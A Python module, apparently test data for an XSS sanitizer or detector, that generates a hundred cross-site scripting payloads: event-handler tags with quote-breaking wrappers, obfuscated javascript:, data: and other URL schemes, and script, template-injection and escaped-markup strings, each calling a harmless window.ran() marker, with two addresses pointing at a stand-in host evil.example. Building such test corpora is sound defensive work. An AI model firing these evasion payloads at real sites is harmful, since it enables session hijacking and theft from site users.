"""A hundred texts that run a script where they become markup, an address or code.

Made by combining what runs (``window.ran()``) with where markup can hold it, after the kinds in OWASP's
"Cross Site Scripting Prevention Cheat Sheet" and its "XSS Filter Evasion Cheat Sheet".
"""

from __future__ import annotations

from itertools import product

_RUN = "window.ran()"
_TAGS = ("img src=x onerror", "svg onload", "input autofocus onfocus", "details open ontoggle", "body onload")
_TAGS_MORE = (
    "video src=x onerror",
    "audio src=x onerror",
    "style onload",
    "marquee onstart",
    "iframe onload",
)
_WRAPS = ("<{0}={1}>", '"><{0}={1}>', "'><{0}='{1}'>", "</p></div><{0}={1}//", "<b><{0}&equals;1 {0}={1}>")
_IN_MARKUP = [wrap.format(tag, _RUN) for tag, wrap in product((*_TAGS, *_TAGS_MORE), _WRAPS)]

_ADDRESSES = [
    f"{scheme}{_RUN}"
    for scheme in (
        *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\nscript:", "\x01javascript:"),
        *("javascript://%0a", "javascript:/*--></title>*/", "vbscript:", "data:text/html,<script>parent."),
        *("data:text/html;base64,PHNjcmlwdD5wYXJlbnQu", "blob:", "//evil.example/", "http:javascript:"),
        *("tel:javascript:", "tel:112;javascript:", "https:javascript:", "feed:javascript:", "view-source:"),
        *(
            "filesystem:",
            "jar:javascript:",
            "mailto:?body=<script>",
            "file:///",
            "ws://evil.example/",
            "about:",
        ),
    )
]

_AS_CODE = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<script src=data:text/javascript,window.ran()></script>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<object data=javascript:window.ran()></object>",
    "<embed src=javascript:window.ran()>",
    "<a href=javascript:window.ran()>klik</a>",
    "<form action=javascript:window.ran()><button>klik</button></form>",
    "<button formaction=javascript:window.ran()>klik</button>",
    "<meta http-equiv=refresh content=0;url=javascript:window.ran()>",
    "<base href=javascript:/window.ran()//>",
    "<math><a xlink:href=javascript:window.ran()>klik</a></math>",
    "<svg><script>window.ran()</script></svg>",
    "<template><script>window.ran()</script></template>",
    "<style>*{background:url(javascript:window.ran())}</style>",
    "<link rel=stylesheet href=javascript:window.ran()>",
    "${window.ran()}",
    "{{constructor.constructor('window.ran()')()}}",
    "`${window.ran()}`",
    "'-window.ran()-'",
    '";window.ran();//',
    "\\x3cscript\\x3ewindow.ran()\\x3c/script\\x3e",
]

INJECTIONS = [*_IN_MARKUP, *_ADDRESSES, *_AS_CODE]
